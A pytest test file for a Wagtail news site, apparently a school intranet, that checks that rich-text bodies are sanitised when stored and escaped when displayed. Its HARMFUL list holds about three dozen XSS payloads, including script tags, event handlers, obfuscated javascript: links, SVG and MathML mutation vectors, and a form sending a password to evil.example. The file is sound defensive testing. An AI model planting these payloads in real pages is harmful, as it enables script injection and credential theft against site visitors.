"""HTML that reaches a page body by any way is what the editor could have written, no more."""

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from wagtail.rich_text import RichText

from home.clean_html import clean_html
from home.models import NewsPage
from tests.factories.home import NewsPageFactory

pytestmark = pytest.mark.django_db

HARMFUL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>chữ</p>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>chữ</p>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="  JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="java&#x09;script:alert(1)">bấm</a>',
    '<a href="java\tscript:alert(1)">bấm</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">bấm</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">bấm</a>',
    '<a href="vbscript:msgbox(1)">bấm</a>',
    '<a linktype="page" id="1" href="javascript:alert(1)" onfocus=alert(1) autofocus>bấm</a>',
    '<a linktype="external" id="1); alert(1" href="x">bấm</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>bấm</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    '<embed embedtype="media" url="https://evil.example/v"/>',
    '<embed embedtype="image" id="1" alt="x" format="fullwidth"/>',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>Gửi</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<p id=location name=cookie>chữ</p>",
    "<b/><script>alert(1)",
    "<details open ontoggle=alert(1)>chữ</details>",
    "<video><source onerror=alert(1)></video>",
]
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}


class Watch(HTMLParser):
    """What a browser would find in the main part of a page beyond plain text."""

    KEPT = {"p", "br", "b", "strong", "i", "em", "ol", "ul", "li", "a"}

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        if tag not in self.KEPT:
            self.found.append(tag)
        for name, value in attributes:
            if not (name == "href" and leads_somewhere_safe(value)) and name != "data-block-key":
                self.found.append(f"{tag} {name}={value}")


def leads_somewhere_safe(link):
    """True for an address without a scheme, or with one that runs nothing, as browsers read it."""
    bare = "".join(sign for sign in (link or "") if sign > " ")
    return urlsplit(bare).scheme.lower() in SAFE_SCHEMES


def body_of(client, page):
    """The HTML between the first and the last word of the story."""
    html = client.get(page.url).content.decode()
    inside = html.split("ĐẦU BÀI", 1)[1]
    # An open script swallows the last word as well; then the story ends where the page goes on.
    return re.split("CUỐI BÀI|</article>|<nav|<footer", inside, maxsplit=1)[0]


@pytest.fixture
def reader(client, house, people):
    client.force_login(people["staff"], backend="intranet.accounts.backends.GroupBackend")
    return client


def test_nothing_harmful_of_what_code_writes_is_printed(reader):
    for html in HARMFUL:
        page = NewsPageFactory(body=[("text", RichText(f"<p>ĐẦU BÀI</p>{html}<p>CUỐI BÀI</p>"))])

        assert Watch(body_of(reader, page)).found == [], html


def test_nothing_harmful_that_stands_in_the_database_is_printed(reader):
    page = NewsPageFactory()
    for html in HARMFUL:
        stored = [{"type": "text", "value": f"<p>ĐẦU BÀI</p>{html}<p>CUỐI BÀI</p>"}]
        NewsPage.objects.filter(pk=page.pk).update(body=json.dumps(stored))

        assert Watch(body_of(reader, page)).found == [], html


def test_nothing_harmful_is_stored(house):
    for html in HARMFUL:
        page = NewsPageFactory(body=[("text", RichText(html))])
        page.refresh_from_db()
        revision = page.save_revision()

        for source in (page.body[0].value.source, revision.as_object().body[0].value.source):
            assert source == clean_html(source)
            assert "alert(1)" not in source or "<script" not in source
            assert Watch(source.replace('linktype="page" id="1"', "")).found == []


def test_plain_words_are_printed_as_words(reader):
    evil = "<script>alert(1)</script>"
    page = NewsPageFactory(
        title=f"Tin {evil}",
        lead=evil,
        byline=evil,
        source=evil,
        body=[
            ("heading", evil),
            ("quote", {"text": evil, "source": evil}),
            ("takeaway", evil),
            ("step", {"title": evil, "text": evil}),
        ],
    )

    html = reader.get(page.url).content.decode()

    assert "<script>alert" not in html
    assert html.count("&lt;script&gt;alert(1)") >= 8


def test_what_the_editor_writes_passes_unchanged():
    written = (
        '<p data-block-key="ab1">Chữ <b>đậm</b>, <i>nghiêng</i><br>'
        '<a linktype="page" id="3">trang</a> <a linktype="document" id="4">tệp</a> '
        '<a href="https://noibo.truong.edu.vn/a?b=1&amp;c=2">liên kết</a> '
        '<a href="mailto:a@b.vn">thư</a> <a href="#muc">mục</a></p>'
        '<ul><li data-block-key="ab2">một</li></ul><ol><li data-block-key="ab3">hai</li></ol>'
    )

    assert clean_html(written) == written
    assert clean_html(clean_html(written)) == written
    assert clean_html(None) == ""
